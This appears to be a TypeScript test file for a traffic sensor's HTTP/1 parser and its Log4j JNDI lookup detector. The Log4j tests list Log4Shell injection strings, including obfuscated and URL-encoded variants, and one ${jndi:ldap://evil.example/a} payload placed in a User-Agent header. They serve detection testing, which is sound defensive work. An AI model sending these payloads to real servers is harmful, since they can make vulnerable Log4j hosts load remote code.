import * as fc from 'fast-check';
import { flowOf, Talk } from './packets.ts';
import { holdsJndi } from '../../sentinel/protocols/jndi.ts';

const OK = 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok';
const ops = (talk: Talk) => flowOf(talk.packets).ops;

describe('HTTP/1', () => {
  test('requests are told by method and templated path, hosts by name', () => {
    const talk = new Talk().open();
    talk
      .says('GET /users/1234/orders?token=secret HTTP/1.1\r\nHost: Shop.Example.com:8080\r\nCookie: a=b\r\n\r\n')
      .hears(OK);
    const flow = flowOf(talk.packets);
    expect(flow.names).toEqual([{ value: 'shop.example.com', from: 'http-host' }]);
    expect(flow.ops).toEqual([{ app: 'http', method: 'GET', path: expect.stringMatching(/^\/users\/\{\w+\}\/orders$/), count: 1 }]); // prettier-ignore
  });

  test.each([
    ['nothing', 'DELETE /a HTTP/1.1\r\nHost: a.example\r\nX-Request-Id: 7\r\nAccept: */*\r\n\r\n', true],
    ['a login', 'DELETE /a HTTP/1.1\r\naUTHORIZATION: Bearer x\r\n\r\n', undefined],
    ['a cookie', 'GET /a HTTP/1.1\r\nHost: a.example\r\nCookie: a=b\r\n\r\n', undefined],
    ['a key of its own', 'POST /a HTTP/1.1\r\nX-Vault-Token: s.x\r\nContent-Length: 0\r\n\r\n', undefined],
    ['a certificate that a proxy hands on', 'GET /a HTTP/1.1\r\nX-Forwarded-Client-Cert: Hash=1\r\n\r\n', undefined],
    ['a token in the query', 'GET /a?b=1&Access_Token=x HTTP/1.1\r\nHost: a.example\r\n\r\n', undefined],
    ['a login in the target', 'GET http://u:p@a.example/a HTTP/1.1\r\n\r\n', undefined],
    ['an @ in the path', 'GET http://a.example/@b HTTP/1.1\r\n\r\n', true],
    ['more headers than are read', `GET /a HTTP/1.1\r\n${'B: c\r\n'.repeat(200)}\r\n`, undefined],
  ])('of who calls it tells whether the head says anything: %s', (_what, request, expected) => {
    const op = { app: 'http', method: request.split(' ')[0], path: expect.any(String), count: 1 };
    const [first] = ops(new Talk().open().says(request).hears(OK));
    expect(first).toEqual(expected === undefined ? op : { ...op, unauthenticated: true });
    // The same where it comes in small pieces.
    expect(ops(new Talk().open().says(request, 7).hears(OK))).toEqual([first]);
  });

  test('bodies by length and in chunks are skipped, whatever they hold', () => {
    const fake = 'GET /fake HTTP/1.1\r\nHost: fake.example\r\n\r\n';
    const talk = new Talk().open();
    talk.says(`POST /one HTTP/1.1\r\nHost: a.example\r\nContent-Length: ${fake.length}\r\n\r\n${fake}`);
    talk.says(`PUT /two HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n${fake.length.toString(16)};x=y\r\n${fake}\r\n0\r\nTrailer: x\r\n\r\n`);
    talk.says('DELETE /three HTTP/1.1\r\n\r\n');
    expect(ops(talk).map(({ method, path }) => `${method} ${path}`)).toEqual(['POST /one', 'PUT /two', 'DELETE /three']);
  }); // prettier-ignore

  test('requests that span segments, and several in one segment, are each counted once', () => {
    const requests = Array.from({ length: 12 }, (_, index) => `POST /api/items HTTP/1.1\r\nHost: a.example\r\nContent-Length: ${index}\r\n\r\n${'x'.repeat(index)}`).join(''); // prettier-ignore
    fc.assert(
      fc.property(fc.integer({ min: 1, max: 600 }), (segment) => {
        expect(ops(new Talk().open().says(requests, segment))).toEqual([{ app: 'http', method: 'POST', path: '/api/items', unauthenticated: true, count: 12 }]); // prettier-ignore
      }),
      { numRuns: 80 },
    );
  });

  test('an upgrade to a WebSocket is told when it is granted, and only then', () => {
    const upgrade = 'GET /ws/7 HTTP/1.1\r\nHost: a.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n';
    const granted = ops(new Talk().open().says(upgrade).hears('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n'));
    expect(granted.map(({ app }) => app)).toEqual(['http', 'websocket']);
    const denied = new Talk().open().says(upgrade).hears('HTTP/1.1 403 Forbidden\r\nContent-Length: 0\r\n\r\n').says('GET /x HTTP/1.1\r\n\r\n');
    expect(ops(denied).map(({ app, path }) => `${app} ${path}`)).toEqual([expect.stringMatching(/^http \/ws\//), 'http /x']);
  }); // prettier-ignore

  test('a method that nobody registered and a target with credentials tell nothing of themselves', () => {
    const talk = new Talk().open().says('GET http://user:hunter2@proxy.example/a/b?c HTTP/1.1\r\n\r\n').says('HUNTER /x HTTP/1.1\r\n\r\n'); // prettier-ignore
    const flow = flowOf(talk.packets);
    expect(flow.names).toEqual([{ value: 'proxy.example', from: 'http-host' }]);
    expect(flow.ops.map(({ method, path }) => `${method} ${path}`)).toEqual(['GET /a/b', 'OTHER /x']);
  });

  test('after lost bytes the next request is read', () => {
    const talk = new Talk().open().says('POST /a HTTP/1.1\r\nContent-Length: 100000\r\n\r\n').hears('');
    talk.clientSeq += 100_000;
    for (let index = 0; index < 5; index += 1) talk.says('GET /b HTTP/1.1\r\n\r\n').hears(OK);
    expect(ops(talk).map(({ path, count }) => `${path} ${count}`)).toEqual(['/a 1', '/b 5']);
  });

  test('what only looks like HTTP is none', () => {
    for (const text of ['GET key\r\n', 'GET / RTSP/1.0\r\n\r\n', 'PUT into the box\n', 'get / HTTP/1.1\r\n\r\n']) {
      expect(ops(new Talk().open().says(text))).toEqual([]);
    }
  });
});

describe('lookup strings of Log4j', () => {
  test.each(['${jndi:ldap://x/a}', '${JNDI:rmi://x}', '${${lower:j}ndi:ldap://x}', '${${::-j}${::-n}${::-d}${::-i}:ldap://x}', '${${env:NaN:-j}ndi${env:NaN:-:}ldap://x}', '%24%7Bjndi%3Aldap%3A%2F%2Fx%7D', '%2524%257Bjndi%253Aldap%257D', '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x}', '${${upper:j}${upper:n}di:dns://x}'])('%s is one', (text) => {
    expect(holdsJndi(`name=a&q=${text}&b=c`)).toBe(true);
  }); // prettier-ignore

  test.each(['${jn:di}', 'jndi:ldap://x', '${lower:jndi}', '$ {jndi:x}', '${env:HOME}', '%24%7Bjn%7D'])(
    '%s is none',
    (text) => {
      // prettier-ignore
      expect(holdsJndi(text)).toBe(false);
    },
  );

  test('in a header, in the path and in a body that spans segments only the fact is told', () => {
    const inHeader = new Talk().open().says('GET / HTTP/1.1\r\nUser-Agent: ${jndi:ldap://evil.example/a}\r\n\r\n');
    const inBody = new Talk().open().says('POST /login HTTP/1.1\r\nContent-Length: 42\r\n\r\nuname=%24%7Bjndi%3Aldap%3A%2F%2Fevil%7D&p=', 7); // prettier-ignore
    for (const talk of [inHeader, inBody]) {
      expect(ops(talk)).toContainEqual({ app: 'jndi', count: 1 });
      expect(JSON.stringify(flowOf(talk.packets))).not.toContain('evil');
    }
  });

  test('a long hostile text takes no time', () => {
    const started = performance.now();
    for (const text of ['${'.repeat(40_000), '${a:'.repeat(20_000) + '}'.repeat(20_000), '%24'.repeat(30_000), '${::-'.repeat(20_000)]) holdsJndi(text); // prettier-ignore
    expect(performance.now() - started).toBeLessThan(1000);
  });
});
